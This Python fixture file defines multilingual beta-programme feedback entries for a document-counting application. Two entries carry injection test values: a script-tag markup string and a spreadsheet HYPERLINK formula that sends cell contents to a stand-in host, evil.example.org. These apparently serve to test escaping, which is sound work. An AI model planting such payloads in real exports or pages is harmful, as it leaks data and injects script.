"""Feedback of the participants of the demo's beta programme, in English, French and Arabic."""

from __future__ import annotations

from dataclasses import dataclass

# The channel of the feedback.
APPLICATION, MACHINE, FORM = "application", "machine", "form"
OLD, NEW = "6.0.3", "6.1.0"
ALICE, BRUNO, CHLOE, DAVID = "alice.martin", "bruno.petit", "chloe.durand", "david.moreau"
EMMA, FARID, GRACE, HERVE = "emma.laurent", "farid.benali", "grace.mbarga", "herve.nkoulou"
INES, JULES, KARIM, YASMINE = "ines.abena", "jules.legoff", "karim.haddad", "yasmine.khalil"


@dataclass(frozen=True)
class Voice:
    """One piece of feedback, given `ago` days before now."""

    ago: float
    who: str
    type: str
    comment: str
    score: int | None = None
    severity: str = ""
    page: str = ""
    version: str = OLD
    way: str = APPLICATION

    def fields(self) -> dict[str, object]:
        """Return the fields of the feedback call, without id and time."""
        fields = {
            "participant": f"{self.who}@example.org",
            "type": self.type,
            "nps_score": self.score,
            "comment": self.comment,
            "severity": self.severity,
            "page": self.page,
            "app_version": self.version,
        }
        return {name: value for name, value in fields.items() if value not in (None, "")}


# First impressions, without scores.
FIRST = [
    Voice(20.4, ALICE, "ux", "The new list of documents is much calmer than the old one.", page="/documents"),
    Voice(20.1, BRUNO, "ux", "Où est passé le bouton « Exporter » ? Je l'ai cherché cinq minutes.", page="/export"),
    Voice(19.6, GRACE, "ux", "On a small laptop the last column is cut off.", page="/documents", way=MACHINE),
    Voice(19.2, KARIM, "other", "Installed on three machines without any trouble."),
    Voice(18.7, EMMA, "ux", "Les raccourcis clavier d'avant ne marchent plus, c'est dommage.", page="/shortcuts"),
    Voice(18.1, BRUNO, "bug", "The total below the list shows 1,204 where 1,024 are counted.", severity="low"),
]

# A week with many bugs.
LOST, LOST_AGAIN = "After sleep the machine forgot", "J'ai perdu le comptage de ce matin"
HANGS = "The export to PDF hangs at 99 %"
WRONG = "Encrypted documents are counted as 0 pages"
SECOND = [
    Voice(16.3, ALICE, "bug", f"{LOST} all that it had counted since the morning.", 5, "critical", "/count"),
    Voice(15.8, BRUNO, "ux", "Toujours pas convaincu par l'export.", 6, page="/export"),
    Voice(15.1, CHLOE, "bug", f"{LOST_AGAIN} : 240 pages à refaire.", 4, "critical", "/count"),
    Voice(14.4, GRACE, "bug", f"{HANGS}, and only a restart helps.", 7, "high", "/export", way=MACHINE),
    Voice(13.9, KARIM, "feature", "A dark mode, please 🌙 – we work in a dark room.", 8, page="/settings"),
    Voice(13.2, EMMA, "ux", "Trop de fenêtres s'ouvrent. Une seule suffirait.", 6, page="/documents"),
    Voice(12.6, JULES, "bug", f"{WRONG}. They should be told apart.", 6, "high", "/count", way=MACHINE),
    Voice(12.0, FARID, "feature", "Print each report on paper every night.", 5, page="/reports"),
    Voice(11.3, YASMINE, "ux", "القائمة الجديدة واضحة جدا، شكرا لكم 🙏", 8, page="/documents"),
]

# A new version with better scores.
MARKUP = "<b>Bold</b> and <script>alert('feedback')</script> stand in my document's name, and nothing happened. Good."
FORMULA = '=HYPERLINK("https://evil.example.org/?leak="&A1;"click me")'
UNJUDGED = "Sometimes the icon in the tray stays grey"
TAB = "The tab key skips the search field"
THIRD = [
    Voice(8.5, ALICE, "other", "6.1.0 kept everything through two nights of sleep.", 9, version=NEW),
    Voice(7.9, BRUNO, "ux", "Le bouton « Exporter » est enfin là où on l'attend.", 8, page="/export", version=NEW),
    Voice(7.2, CHLOE, "other", "Plus rien de perdu depuis la mise à jour 👍", 9, version=NEW),
    Voice(6.6, GRACE, "ux", "Now the whole list fits on my screen.", 8, page="/documents", version=NEW, way=MACHINE),
    Voice(6.1, DAVID, "other", MARKUP, 9, page="/documents", version=NEW, way=FORM),
    Voice(5.5, INES, "other", FORMULA, 7, page="/export", version=NEW, way=FORM),
    Voice(4.8, KARIM, "ux", "Faster than before: 400 documents in a minute. 🚀", 10, page="/count", version=NEW),
    Voice(4.1, EMMA, "bug", f"{TAB}.", 8, "medium", "/documents", NEW),
    Voice(3.7, HERVE, "ux", "Très clair.\nMême mon père s'en sert.\n\n\tMerci !", 10, version=NEW, way=MACHINE),
    Voice(2.6, JULES, "bug", f"{UNJUDGED} after the network is back.", page="/tray", version=NEW, way=FORM),
    Voice(1.4, FARID, "ux", "I can live with it. The fonts are small.", 6, page="/settings", version=NEW),
    Voice(0.3, YASMINE, "feature", "هل يمكن إضافة واجهة بالعربية؟", 9, page="/settings", version=NEW),
]
